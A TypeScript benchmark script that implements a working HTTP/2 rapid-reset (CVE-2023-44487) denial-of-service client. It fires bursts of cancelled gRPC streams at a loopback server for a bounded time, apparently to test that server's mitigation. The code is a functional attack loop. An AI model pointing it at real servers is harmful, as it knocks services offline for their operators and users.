// One HTTP/2 rapid-reset client (CVE-2023-44487), for bench/rapid-reset.ts:
// opens a stream with a gRPC call's HEADERS and resets it at once, in a
// loop, reconnecting whenever the server ends the session, for a bounded
// time. Loopback only. Prints one JSON line with what it managed.
//   tsx bench/rapid-reset-attacker.ts <port> <localAddress> <seconds>
import http2 from "node:http2";
import net from "node:net";

const [portArg, localAddress = "127.0.0.2", secondsArg = "5"] = process.argv.slice(2);
const port = Number(portArg);
const until = Date.now() + Number(secondsArg) * 1000;
const headers = {
  ":method": "POST",
  ":path": "/avnology.identity.v1.IdentityService/GetIdentity",
  "content-type": "application/grpc",
  te: "trailers",
};

let streams = 0;
let sessions = 0;
let refused = 0;

async function attack(): Promise<void> {
  while (Date.now() < until) {
    const session = http2.connect(`http://127.0.0.1:${port}`, {
      createConnection: () => net.connect({ port, host: "127.0.0.1", localAddress }),
    });
    session.on("error", () => undefined);
    const connected = await new Promise<boolean>((resolve) => {
      session.once("connect", () => resolve(true));
      session.once("close", () => resolve(false));
    });
    if (!connected) {
      refused++;
      continue;
    }
    sessions++;
    await new Promise<void>((resolve) => {
      session.once("close", () => resolve());
      // Ended by the server (e.g. for too many resets): reconnect at once.
      session.once("goaway", () => session.destroy());
      const burst = () => {
        if (session.destroyed || session.closed || Date.now() >= until) return session.destroy();
        try {
          for (let i = 0; i < 50; i++) {
            const stream = session.request(headers);
            stream.on("error", () => undefined);
            stream.close(http2.constants.NGHTTP2_CANCEL);
            streams++;
          }
        } catch {
          return session.destroy();
        }
        setImmediate(burst);
      };
      burst();
    });
  }
}

await attack();
process.stdout.write(`${JSON.stringify({ localAddress, streams, sessions, refused })}\n`);
